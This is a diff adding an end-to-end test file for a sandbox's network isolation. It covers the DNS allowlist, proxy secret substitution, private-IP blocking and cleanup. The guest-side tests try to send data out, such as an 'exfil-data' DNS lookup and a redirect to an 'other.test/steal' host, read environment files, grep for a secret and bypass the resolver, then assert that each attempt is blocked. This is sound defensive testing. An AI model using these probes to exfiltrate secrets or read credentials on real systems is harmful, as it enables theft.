@@ -1,0 +1,317 @@
+// The network seal end to end: a real gVisor sandbox, the engine's DNS and proxy, and real
+// servers in a network namespace this test creates (test/helpers/net-lab.ts).
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+import { Sandbox, type Client } from "../../src/sdk/index.js";
+import { execFile } from "node:child_process";
+import { createHash } from "node:crypto";
+import { readdir, readFile } from "node:fs/promises";
+import { join } from "node:path";
+import { promisify } from "node:util";
+import { BACKEND, BUSYBOX, cli, eventually, newClient, processesOf, PYTHON, setUpE2E } from "../helpers/e2e.js";
+import { startNetLab, type NetLab } from "../helpers/net-lab.js";
+
+const execFileP = promisify(execFile);
+const sha256 = (v: string) => createHash("sha256").update(v).digest("hex");
+const SECRET = "sk-real-value-7f3a9c";
+
+/** A guest-side client: prints {"status", "body"} or {"error"} for one request. */
+const FETCH_PY = `
+import json, sys, urllib.request, urllib.error
+url = sys.argv[1]
+headers = dict(h.split(":", 1) for h in sys.argv[2:])
+try:
+    r = urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20)
+    print(json.dumps({"status": r.status, "body": r.read().decode("latin-1")}))
+except urllib.error.HTTPError as e:
+    print(json.dumps({"status": e.code, "body": e.read().decode("latin-1")}))
+except Exception as e:
+    print(json.dumps({"error": type(e).__name__ + ": " + str(e)}))
+`;
+
+interface Fetched { status?: number; body?: string; error?: string }
+
+// The seal is built for gVisor; on the micro-VM engine (no network yet) this file checks that a
+// sandbox asking for network gets none at all instead (at the end).
+function sealSuites(): void {
+describe("network seal", () => {
+  let lab: NetLab;
+  let client: Client;
+  const events: Array<Record<string, unknown>> = [];
+
+  const fetch = async (url: string, ...headers: string[]): Promise<Fetched> => {
+    const args = [url, ...headers].map((a) => `'${a}'`).join(" ");
+    const r = await client.exec(`python3 /tmp/fetch.py ${args}`);
+    assert.equal(r.exitCode, 0, r.stderr);
+    return JSON.parse(r.stdout) as Fetched;
+  };
+
+  before(async () => {
+    await setUpE2E();
+    lab = await startNetLab();
+    process.env.MATCHLOCK_TEST_HOSTS = lab.hostsFile;
+    process.env.MATCHLOCK_UPSTREAM_CA = lab.caFile;
+    client = newClient();
+    client.onEvent((e) => events.push(e as unknown as Record<string, unknown>));
+    await client.launch(new Sandbox(PYTHON).allowHost("Allowed.test", "*.wild.test").addSecret("API_KEY", SECRET, "secret.test"));
+    await client.writeFile("/tmp/fetch.py", FETCH_PY);
+  });
+  after(async () => {
+    await client?.close();
+    await client?.remove();
+    await lab?.stop();
+  });
+
+  test("an allowed host is reached over HTTP and HTTPS (TLS intercepted, trusted by the guest)", async () => {
+    assert.deepEqual(await fetch("http://allowed.test/hello"), { status: 200, body: "hello from allowed.test\n" });
+    assert.deepEqual(await fetch("https://allowed.test/hello"), { status: 200, body: "hello from allowed.test\n" });
+    assert.deepEqual(await fetch("https://sub.wild.test/hello"), { status: 200, body: "hello from sub.wild.test\n" });
+  });
+
+  test("a host not allowed gets NXDOMAIN from the engine's DNS", async () => {
+    const r = await client.exec(`python3 -c 'import socket; socket.gethostbyname("other.test")'`);
+    assert.notEqual(r.exitCode, 0);
+    assert.match(r.stderr, /Name or service not known|nodename nor servname/);
+    assert.match((await fetch("https://exfil-data-1234.other.test/")).error ?? "", /URLError/);
+  });
+
+  test("a direct connection to an IP address goes nowhere", async () => {
+    const r = await fetch(`http://${lab.serverIp}/hello`);
+    assert.ok(r.error, `expected a failure, got ${JSON.stringify(r)}`);
+  });
+
+  test("Host header of a forbidden name on an allowed name's address is refused with 403", async () => {
+    const r = await fetch("http://allowed.test/hello", "Host:other.test");
+    assert.equal(r.status, 403);
+    assert.equal(r.body, "Blocked by policy");
+    assert.ok(events.some((e) => (e.network as Record<string, unknown>)?.blocked === true));
+  });
+
+  test("the secret is replaced for its host, in headers and query, and an echo of it is redacted", async () => {
+    const r = await client.exec(`python3 /tmp/fetch.py "https://secret.test/echo?key=$API_KEY" "Authorization:Bearer $API_KEY"`);
+    const seen = JSON.parse(r.stdout) as Fetched;
+    const echoed = JSON.parse(seen.body!) as { url: string; headers: Record<string, string>; urlSha: string; authSha: string };
+    // What the server received: the real value, in the query and the header.
+    assert.equal(echoed.urlSha, sha256(`/echo?key=${SECRET}`));
+    assert.equal(echoed.authSha, sha256(`Bearer ${SECRET}`));
+    // What the guest got back: the server's echo, with the value turned back into the placeholder.
+    assert.ok(!seen.body!.includes(SECRET));
+    assert.match(echoed.headers.authorization!, /^Bearer SANDBOX_SECRET_[0-9a-f]{32}$/);
+    assert.match(echoed.url, /^\/echo\?key=SANDBOX_SECRET_[0-9a-f]{32}$/);
+  });
+
+  test("the secret is not replaced in the path", async () => {
+    const r = await client.exec(`python3 /tmp/fetch.py "https://secret.test/echo/$API_KEY"`);
+    assert.equal(JSON.parse(r.stdout).status, 404); // the server saw the placeholder path, not the value
+  });
+
+  test("the secret's placeholder to another allowed host is blocked with 403 and an event", async () => {
+    const r = await client.exec(`python3 /tmp/fetch.py "https://allowed.test/echo" "Authorization:Bearer $API_KEY"`);
+    assert.deepEqual(JSON.parse(r.stdout), { status: 403, body: "Blocked by policy" });
+    assert.ok(events.some((e) => (e.network as Record<string, unknown>)?.block_reason === "secret placeholder sent to unauthorized host"));
+  });
+
+  test("the real secret value is nowhere the guest can read", async () => {
+    const env = await client.exec("env; cat /proc/self/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'");
+    assert.match(env.stdout, /API_KEY=SANDBOX_SECRET_[0-9a-f]{32}/);
+    assert.ok(!env.stdout.includes(SECRET));
+    const grep = await client.exec(`grep -rlE '${SECRET.slice(0, -1)}[${SECRET.slice(-1)}]' /etc /tmp /root /workspace /proc/self 2>/dev/null; echo done`);
+    assert.equal(grep.stdout, "done\n");
+  });
+
+  test("a redirect to a forbidden host is passed back, and following it goes nowhere", async () => {
+    const r = await client.exec(`python3 -c '
+import urllib.request, http.client
+c = http.client.HTTPSConnection("allowed.test", timeout=20)
+c.request("GET", "/redirect?to=https://other.test/steal")
+r = c.getresponse(); print(r.status, r.getheader("Location"))'`);
+    assert.equal(r.stdout, "302 https://other.test/steal\n");
+    assert.match((await fetch("https://allowed.test/redirect?to=https://other.test/steal")).error ?? "", /URLError/);
+  });
+
+  test("HTTP/1.1 keep-alive: several requests on one guest connection", async () => {
+    const r = await client.exec(`python3 -c '
+import http.client, json
+c = http.client.HTTPSConnection("allowed.test", timeout=20)
+ids = []
+for i in range(3):
+    c.request("GET", "/echo"); ids.append(json.loads(c.getresponse().read())["socket"])
+print(len(ids), len(set(ids)))'`);
+    assert.equal(r.exitCode, 0, r.stderr);
+    // Three answers over one guest connection; the proxy also reused one upstream connection.
+    assert.equal(r.stdout, "3 1\n");
+  });
+
+  test("chunked and server-sent-event bodies stream through, chunk by chunk", async () => {
+    const r = await client.exec(`python3 -c '
+import http.client, time
+c = http.client.HTTPSConnection("allowed.test", timeout=20)
+c.request("GET", "/sse"); resp = c.getresponse()
+first = resp.readline(); t1 = time.time(); rest = resp.read(); t2 = time.time()
+print(resp.getheader("Content-Type"), first.decode().strip(), rest.decode().count("data:"), t2 - t1 > 0.1)
+c.request("GET", "/chunked"); r2 = c.getresponse(); print(r2.getheader("Transfer-Encoding"), r2.read().decode().count("chunk"))'`);
+    assert.equal(r.exitCode, 0, r.stderr);
+    assert.equal(r.stdout, "text/event-stream data: event 0 2 True\nchunked 5\n");
+  });
+
+  test("a websocket upgrade is relayed to an allowed host", async () => {
+    const r = await client.exec(`python3 -c '
+import socket, ssl
+s = ssl.create_default_context().wrap_socket(socket.create_connection(("allowed.test", 443), timeout=20), server_hostname="allowed.test")
+s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n")
+head = b""
+while b"\\r\\n\\r\\n" not in head:
+    c = s.recv(1)
+    if not c: break
+    head += c
+s.sendall(b"ping-frame"); print(head.split(b"\\r\\n")[0].decode(), s.recv(100).decode())'`);
+    assert.equal(r.exitCode, 0, r.stderr);
+    assert.equal(r.stdout, "HTTP/1.1 101 Switching Protocols ping-frame\n");
+  });
+
+  test("a DNS query to any other resolver address is answered by the engine", async () => {
+    // 192.0.2.53 is TEST-NET-1: the query is DNAT'ed on the host end of the link and never leaves.
+    const r = await client.exec(`python3 -c '
+import socket, struct
+q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\\x07allowed\\x04test\\x00" + struct.pack(">HH", 1, 1)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+u.sendto(q, ("192.0.2.53", 53)); a = u.recvfrom(512)[0]
+print(a[3] & 15, struct.unpack(">H", a[6:8])[0], socket.inet_ntoa(a[-4:]).startswith("10.201."))'`);
+    assert.equal(r.stdout, "0 1 True\n", r.stderr);
+  });
+
+  test("UDP other than DNS and TCP to other ports are dropped", async () => {
+    const r = await client.exec(`python3 -c '
+import socket
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+u.sendto(b"x", ("${lab.serverIp}", 9999))
+try: u.recvfrom(10); print("udp answered")
+except socket.timeout: print("udp dropped")
+t = socket.socket(); t.settimeout(3)
+try: t.connect(("allowed.test", 22)); print("tcp connected")
+except OSError as e: print("tcp refused")'`);
+    assert.equal(r.stdout, "udp dropped\ntcp refused\n");
+  });
+
+  test("a 100 MB download over HTTPS arrives whole", async () => {
+    const r = await client.exec(`python3 -c '
+import urllib.request, hashlib, time
+t = time.time(); h = hashlib.sha256(); n = 0
+with urllib.request.urlopen("https://allowed.test/big?mb=100", timeout=120) as r:
+    while True:
+        b = r.read(1 << 20)
+        if not b: break
+        n += len(b); h.update(b)
+print(n, h.hexdigest()[:16], round(n / (time.time() - t) / 1e6, 1))'`);
+    assert.equal(r.exitCode, 0, r.stderr);
+    const [bytes, digest, mbps] = r.stdout.trim().split(" ");
+    assert.equal(Number(bytes), 100 * 1024 * 1024);
+    assert.equal(digest, "cee41e98d0a6ad65"); // sha256 of 100 MiB of "a", first 16 hex
+    process.stderr.write(`# 100 MB HTTPS download through the proxy: ${mbps} MB/s\n`);
+  });
+});
+
+describe("network seal: block_private_ips", () => {
+  let lab: NetLab;
+  let client: Client;
+
+  before(async () => {
+    await setUpE2E();
+    lab = await startNetLab();
+    process.env.MATCHLOCK_TEST_HOSTS = lab.hostsFile;
+    process.env.MATCHLOCK_UPSTREAM_CA = lab.caFile;
+    client = newClient();
+    await client.launch(new Sandbox(PYTHON).allowHost("allowed.test").blockPrivateIps());
+  });
+  after(async () => {
+    await client?.close();
+    await client?.remove();
+    await lab?.stop();
+  });
+
+  test("an allowed name that resolves to a private address is refused (403, nothing sent)", async () => {
+    const r = await client.exec(`python3 -c '
+import urllib.request, urllib.error
+try: urllib.request.urlopen("http://allowed.test/hello", timeout=20)
+except urllib.error.HTTPError as e: print(e.code, e.read().decode())'`);
+    assert.equal(r.stdout, "403 Blocked by policy\n");
+  });
+});
+
+/** Host-side traces of a sandbox's network: netns, host interface, nft table, slot allocation. */
+async function networkLeftovers(vmId: string): Promise<string[]> {
+  const hex = vmId.replace(/^vm-/, "");
+  const found: string[] = [];
+  const { stdout: ns } = await execFileP("ip", ["netns", "list"]);
+  if (ns.includes(`matchlock-${hex}`)) found.push("netns");
+  const { stdout: links } = await execFileP("ip", ["-o", "link"]);
+  if (links.includes(`mlh${hex}`)) found.push("host interface");
+  const { stdout: tables } = await execFileP("nft", ["list", "tables"]);
+  if (tables.includes(`matchlock_${hex}`)) found.push("nft table");
+  for (const f of await readdir("/run/matchlock/net").catch(() => [] as string[])) {
+    if ((await readFile(join("/run/matchlock/net", f), "utf8")).includes(vmId)) found.push(`allocation ${f}`);
+  }
+  return found;
+}
+
+describe("network seal: cleanup", () => {
+  let home: string;
+  before(async () => {
+    home = await setUpE2E();
+  });
+
+  test("close removes netns, interface, nft table and the allocation", async () => {
+    const client = newClient();
+    const id = await client.launch(new Sandbox(BUSYBOX).allowHost("allowed.test"));
+    assert.equal((await networkLeftovers(id)).length, 4);
+    await client.close();
+    await client.remove();
+    assert.deepEqual(await networkLeftovers(id), []);
+  });
+
+  test("after the engine is SIGKILLed, `matchlock gc` frees what it left", async () => {
+    const client = newClient();
+    const id = await client.launch(new Sandbox(BUSYBOX).allowHost("allowed.test"));
+    const enginePid = Number(await readFile(join(home, "vms", id, "pid"), "utf8"));
+    process.kill(enginePid, "SIGKILL");
+    await client.close().catch(() => {});
+    assert.equal((await networkLeftovers(id)).length, 4, "a killed engine cannot clean up");
+    assert.deepEqual(await eventually(async () => (await processesOf(id)), 10_000), [], "runsc follows its engine");
+    const r = await cli(["gc"]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stdout, new RegExp(`Freed network of ${id}`));
+    assert.deepEqual(await networkLeftovers(id), []);
+  });
+
+  test("after the engine is SIGKILLed, the next engine's start frees what it left", async () => {
+    const first = newClient();
+    const id = await first.launch(new Sandbox(BUSYBOX).allowHost("allowed.test"));
+    process.kill(Number(await readFile(join(home, "vms", id, "pid"), "utf8")), "SIGKILL");
+    await first.close().catch(() => {});
+    assert.equal((await networkLeftovers(id)).length, 4);
+    const next = newClient();
+    await next.start();
+    assert.deepEqual(await eventually(() => networkLeftovers(id), 10_000), []);
+    await next.close();
+  });
+});
+}
+
+function microvmSuite(): void {
+describe("network on the micro-VM engine", () => {
+  before(async () => {
+    await setUpE2E();
+  });
+
+  test("a sandbox that asks for network gets none (everything denied), and secrets stay placeholders", async () => {
+    await using client = newClient();
+    await client.launch(new Sandbox(BUSYBOX).allowHost("example.test").addSecret("KEY", SECRET, "example.test"));
+    assert.deepEqual((await client.exec("ls /sys/class/net")).stdout.trim().split(/\s+/), ["lo"]);
+    assert.match((await client.exec("echo $KEY")).stdout, /^SANDBOX_SECRET_[0-9a-f]{32}\n$/);
+    assert.ok(!(await client.exec("cat /proc/1/environ /proc/self/environ")).stdout.includes(SECRET));
+  });
+});
+}
+
+if (BACKEND === "microvm") microvmSuite();
+else sealSuites();
